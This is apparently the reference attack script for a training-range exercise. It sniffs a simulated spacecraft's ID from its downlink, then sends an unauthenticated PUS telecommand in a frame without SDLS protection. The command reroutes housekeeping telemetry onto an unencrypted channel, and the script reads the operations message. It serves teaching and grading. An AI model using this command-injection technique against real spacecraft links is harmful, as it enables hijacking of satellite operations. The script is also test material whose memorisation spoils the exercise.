"""Reference attack for tm-redirect: run on the attacker workstation (it has a transmitter
on the RF segment), as the student.

1. Listen on the downlink air (UDP 5103): the telemetry is encrypted, but every transfer
   frame's header names the spacecraft (SCID).
2. Build DOWNLINK_ROUTE (PUS 8,1 function 7: virtual channel 5, clear 1) as a PUS-C
   packet, put it in a type-BD TC frame with no security header, and transmit it to the
   rf-link (UDP 5100). The spacecraft takes routing commands without SDLS.
3. Listen again: housekeeping now arrives on VC 5 in the clear, and the ground station
   (VC 0, SDLS) drops it. Print the operations message.

Exit status 0 when housekeeping was read in the clear, 2 otherwise.
"""

from __future__ import annotations

import socket
import sys
import time

from labctl.errors import ProtocolError
from labctl.protocols.layers import PusTm, TMFrame, dissect, space_packets
from labctl.protocols.pus import PusTc
from labctl.protocols.tc_frame import TcFrame, segment
from labctl.range import wiring
from labctl.range.hosts.catalog import BY_NAME, PLATFORM_APID, Housekeeping

RF_LINK = (wiring.RF_LINK, wiring.UPLINK_IN)
NEW_VC = 5
IDLE_VCID = 7
LISTEN_S = 30.0


def listen(sock: socket.socket, seconds: float) -> list[bytes]:
    """What the downlink air carries for ``seconds`` (at most 200 frames)."""
    frames: list[bytes] = []
    deadline = time.monotonic() + seconds
    while (left := deadline - time.monotonic()) > 0 and len(frames) < 200:
        sock.settimeout(left)
        try:
            frames.append(sock.recv(4096))
        except TimeoutError:
            break
    return frames


def scid_of(frames: list[bytes]) -> int | None:
    for datagram in frames:
        try:
            return int(dissect(TMFrame, datagram).scid)
        except ProtocolError:
            continue
    return None


def housekeeping(datagram: bytes) -> tuple[int, Housekeeping] | None:
    try:
        frame = dissect(TMFrame, datagram)
    except ProtocolError:
        return None
    if frame.vcid == IDLE_VCID:
        return None
    for packet in space_packets(bytes(frame.payload)):
        if packet.haslayer(PusTm) and packet[PusTm].pec_ok:
            report = packet[PusTm]
            if (report.service, report.subtype) == (3, 25):
                try:
                    return int(frame.vcid), Housekeeping.decode(bytes(report.payload))
                except ProtocolError:
                    continue
    return None


def main() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as air:
        air.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        air.bind(("", wiring.DOWNLINK_AIR))
        scid = scid_of(listen(air, 6.0))
        if scid is None:
            print("no telemetry frame heard on the downlink air")
            return 2
        print(f"the spacecraft on the air: SCID {scid} (its telemetry is encrypted)")
        route = BY_NAME["DOWNLINK_ROUTE"].app_data(NEW_VC, 1)
        packet = PusTc(PLATFORM_APID, 8, 1, route, seq_count=7, source_id=0x0BAD).encode()
        frame = TcFrame(scid, 0, segment(0, packet), 0, 1).encode()  # type BD, no SDLS
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as radio:
            radio.sendto(frame, RF_LINK)
        print(f"sent DOWNLINK_ROUTE vcid {NEW_VC} clear 1 in a clear type-BD frame")
        deadline = time.monotonic() + LISTEN_S
        while time.monotonic() < deadline:
            for datagram in listen(air, 2.0):
                found = housekeeping(datagram)
                if found is not None:
                    vcid, hk = found
                    print(f"housekeeping in the clear on VC {vcid}: battery {hk.battery_pct} %")
                    print(f"ops message: {hk.ops_message}")
                    return 0
    print("no housekeeping readable in the clear")
    return 2


if __name__ == "__main__":
    sys.exit(main())
